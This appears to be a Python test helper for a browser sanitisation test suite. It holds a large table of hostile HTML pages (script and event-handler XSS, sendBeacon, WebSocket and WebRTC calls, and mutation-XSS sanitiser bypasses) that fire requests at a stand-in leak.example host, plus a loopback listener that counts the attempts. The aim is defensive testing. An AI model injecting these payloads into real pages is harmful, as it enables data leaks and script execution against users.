"""Pages that try to make a browser connect somewhere, and the listener that sees each attempt.

Each page names hosts ``VECTOR.MODE.leak.example``. Chromium is told to resolve every name to the
listener, so an attempt of any kind is either a connection or an entry in Chromium's net log.
"""

import re
import socket
import threading
from collections.abc import Iterator
from contextlib import contextmanager, suppress
from pathlib import Path

_RUN = "fetch('HTTP/run');document.title='taken'"

# HTTP is the origin of the vector's own host with http, HTTPS with https, HOST the host alone.
VECTORS: dict[str, str] = {
    "preconnect": "<link rel=preconnect href=HTTPS>",
    "preconnect-cors": "<link rel=preconnect href=HTTP crossorigin>",
    "dns-prefetch": "<link rel=dns-prefetch href=//HOST>",
    "prefetch": "<link rel=prefetch href=HTTP/x>",
    "prerender": "<link rel=prerender href=HTTP/x>",
    "preload": "<link rel=preload as=image href=HTTP/x>",
    "modulepreload": "<link rel=modulepreload href=HTTP/x.js>",
    "stylesheet": "<link rel=stylesheet href=HTTP/x.css>",
    "icon": "<link rel=icon href=HTTP/x.ico>",
    "manifest": "<link rel=manifest href=HTTP/x.json>",
    "http-equiv-link": "<meta http-equiv=Link content='<HTTP/x>; rel=preload; as=image'>",
    "img": "<img src=HTTP/x>",
    "img-srcset": "<img srcset='HTTP/x 1x, HTTP/y 2x'>",
    "img-lazy": "<img loading=lazy src=HTTP/x>",
    "picture": "<picture><source srcset=HTTP/x><img></picture>",
    "image": "<image src=HTTP/x>",
    "input-image": "<input type=image src=HTTP/x>",
    "body-background": "<body background=HTTP/x>",
    "table-background": "<table background=HTTP/x><tr><td>x</table>",
    "video-poster": "<video poster=HTTP/x></video>",
    "video": "<video src=HTTP/x autoplay muted></video>",
    "audio-source": "<audio autoplay><source src=HTTP/x></audio>",
    "track": "<video src=data:,x><track default src=HTTP/x></video>",
    "style-url": "<style>body{background:url(HTTP/x)}</style>",
    "style-import": "<style>@import 'HTTP/x';</style>",
    "style-font": "<style>@font-face{font-family:f;src:url(HTTP/x)}p{font-family:f}</style><p>x",
    "style-attribute": "<p style='background:url(HTTP/x)'>x",
    "style-image-set": "<p style='background:image-set(\"HTTP/x\" 1x)'>x",
    "svg-image": "<svg><image href=HTTP/x width=9 height=9></svg>",
    "svg-use": "<svg><use href=HTTP/x#a></svg>",
    "svg-feimage": "<svg><filter id=f><feImage href=HTTP/x></filter>"
    "<rect filter=url(#f) width=9 height=9 /></svg>",
    "svg-style": "<svg><style>@import 'HTTP/x';</style></svg>",
    "svg-style-text": "<svg><style><link rel=preconnect href=HTTPS></style></svg>",
    "svg-script": f"<svg><script>{_RUN}</script></svg>",
    "svg-onload": f'<svg onload="{_RUN}">',
    "svg-animate": f'<svg><animate onbegin="{_RUN}" attributeName=x dur=1s></svg>',
    "svg-set-href": "<svg><image width=9 height=9><set attributeName=href to=HTTP/x></image></svg>",
    "svg-foreign": "<svg><foreignObject><img src=HTTP/x></foreignObject></svg>",
    "math-style": "<math><style><img src=HTTP/x></style></math>",
    "math-mtext": "<math><mtext><img src=HTTP/x></mtext></math>",
    "math-annotation": "<math><annotation-xml encoding=text/html><img src=HTTP/x>"
    "</annotation-xml></math>",
    "math-href": f'<math href="javascript:{_RUN}"><mi>x</mi></math>',
    "meta-refresh": "<meta http-equiv=refresh content='0;url=HTTP/x'>",
    "meta-csp-report": "<meta http-equiv=Content-Security-Policy "
    "content=\"img-src 'none'; report-uri HTTP/x\"><img src=x>",
    "base": "<base href=HTTP/><img src=x>",
    "iframe": "<iframe src=HTTP/x></iframe>",
    "iframe-srcdoc": "<iframe srcdoc='<img src=HTTP/x>'></iframe>",
    "frameset": "<frameset><frame src=HTTP/x></frameset>",
    "fencedframe": "<fencedframe src=HTTPS/x></fencedframe>",
    "portal": "<portal src=HTTP/x></portal>",
    "object": "<object data=HTTP/x></object>",
    "embed": "<embed src=HTTP/x>",
    "applet": "<applet code=x codebase=HTTP/></applet>",
    "script-src": "<script src=HTTP/x></script>",
    "script-module": "<script type=module>import 'HTTP/x'</script>",
    "script-importmap": '<script type=importmap>{"imports":{"a":"HTTP/x"}}</script>'
    "<script type=module>import 'a'</script>",
    "speculation-prefetch": '<script type=speculationrules>{"prefetch":[{"source":"list",'
    '"urls":["HTTP/x"]}]}</script>',
    "speculation-prerender": '<script type=speculationrules>{"prerender":[{"source":"list",'
    '"urls":["HTTP/x"],"eagerness":"immediate"}]}</script>',
    "script-fetch": f"<script>{_RUN}</script>",
    "script-beacon": "<script>navigator.sendBeacon('HTTP/x','x')</script>",
    "script-socket": "<script>new WebSocket('ws://HOST/x')</script>",
    "script-events": "<script>new EventSource('HTTP/x')</script>",
    "script-transport": "<script>new WebTransport('HTTPS/x')</script>",
    "script-webrtc": "<script>const c=new RTCPeerConnection({iceServers:[{urls:'stun:HOST:3478'}"
    "]});c.createDataChannel('x');c.createOffer().then(o=>c.setLocalDescription(o))</script>",
    "script-form": "<form action=HTTP/x id=f></form><script>f.submit()</script>",
    "script-ping": "<a ping=HTTP/x href='#'>x</a><script>document.links[0].click()</script>",
    "script-navigate": "<script>location='HTTP/x'</script>",
    "autofocus": f'<input autofocus onfocus="{_RUN}">',
    "onerror": f'<img src=data:,x onerror="{_RUN}">',
    "details-toggle": f'<details open ontoggle="{_RUN}">x</details>',
    "marquee-start": f'<marquee onstart="{_RUN}">x</marquee>',
    "body-onload": f'<body onload="{_RUN}">',
    "animation": f"<style>@keyframes k{{}}</style><p style='animation:k 1ms' "
    f'onanimationend="{_RUN}">x',
    # Text to one parser, markup to the next: what a sanitiser leaves as text must stay text.
    "xmp": "<xmp></xmp><img src=HTTP/x></xmp>",
    "xmp-wrapped": "<xmp><link rel=preconnect href=HTTPS></xmp>",
    "noembed": "<noembed><link rel=preconnect href=HTTPS></noembed>",
    "noframes": "<noframes><link rel=preconnect href=HTTPS></noframes>",
    "noscript": "<noscript><link rel=preconnect href=HTTPS></noscript>",
    "noscript-style": "<noscript><style></noscript><img src=HTTP/x></style></noscript>",
    "noscript-title": '<noscript><p title="</noscript><img src=HTTP/x>">',
    "plaintext": "<plaintext><link rel=preconnect href=HTTPS>",
    "template": "<template><link rel=preconnect href=HTTPS></template>",
    "template-shadow": "<div><template shadowrootmode=open><img src=HTTP/x></template></div>",
    "title": "<title><link rel=preconnect href=HTTPS></title>",
    "textarea": "<textarea></textarea><img src=HTTP/x></textarea>",
    "select": "<select><style></select><img src=HTTP/x></style></select>",
    "comment-bang": "<!--!> <img src=HTTP/x> -->",
    "comment-dash": "<!--><img src=HTTP/x>-->",
    "cdata": "<svg><![CDATA[><img src=HTTP/x>]]></svg>",
    "processing": "<?xml ><img src=HTTP/x>?>",
    "mutation-form": "<form><math><mtext></form><form><mglyph><style></math>"
    "<img src=HTTP/x></style></mglyph></form>",
    "mutation-table": "<math><mtext><table><mglyph><style><!--</style>"
    '<img title="--&gt;&lt;img src=HTTP/x&gt;">',
    "mutation-svg-p": '<svg></p><style><a id="</style><img src=HTTP/x>">',
    "mutation-math-p": '<math></p><style><a id="</style><img src=HTTP/x>">',
    "mutation-select": "<svg><desc><select><svg></desc><style><img src=HTTP/x></style></svg>",
    "mutation-nesting": "<div>" * 600 + "<svg><style><a title='</style><img src=HTTP/x>'>",
    "entities": "&lt;img src=HTTP/x&gt; <p title='&lt;img src=HTTP/x&gt;'>x",
    "nul": "<i\0mg src=HTTP/x><img\0 src=HTTP/x><img/src=HTTP/x>",
    "unclosed": "<img src=HTTP/x",
    "quotes": "<p title='\"><img src=HTTP/x>'>\"><img src=HTTP/y>",
    "utf-7": "+ADw-img src=HTTP/x+AD4-",
}
"""Pages by name. What each asks for, it asks for without a click."""

_NAMED = re.compile(r"([a-z0-9-]+)\.([a-z]+)\.leak\.example")


def hostile_page(vector: str, mode: str) -> str:
    """The page of ``vector``; the hosts it names tell ``mode``, too."""
    host = f"{vector}.{mode}.leak.example"
    page = VECTORS[vector].replace("HTTPS", f"https://{host}").replace("HTTP", f"http://{host}")
    return page.replace("HOST", host)


def attempts_in(net_log: Path) -> dict[str, set[str]]:
    """Which vectors Chromium resolved, connected to or asked for, by mode; from its net log."""
    found: dict[str, set[str]] = {}
    for vector, mode in _NAMED.findall(net_log.read_text("utf-8", "replace")):
        found.setdefault(mode, set()).add(vector)
    return found


class Listener:
    """Counts TCP connections and UDP packets at one loopback port, and answers none."""

    def __init__(self) -> None:
        self.connections = 0
        self._tcp = socket.create_server(("127.0.0.1", 0))
        self.port: int = self._tcp.getsockname()[1]
        self._udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self._udp.bind(("127.0.0.1", self.port))

    def _accept(self) -> None:
        with suppress(OSError):  # closed
            while True:
                connection, _ = self._tcp.accept()
                self.connections += 1
                connection.close()

    def _receive(self) -> None:
        with suppress(OSError):  # closed
            while self._udp.recv(2_000):
                self.connections += 1


@contextmanager
def listener() -> Iterator[Listener]:
    """A listener at work."""
    found = Listener()
    threads = [threading.Thread(target=one, daemon=True) for one in (found._accept, found._receive)]
    for thread in threads:
        thread.start()
    try:
        yield found
    finally:
        with suppress(OSError):
            found._tcp.shutdown(socket.SHUT_RDWR)
        found._tcp.close()
        with suppress(OSError):
            found._udp.shutdown(socket.SHUT_RDWR)
        found._udp.close()
        for thread in threads:
            thread.join(10)
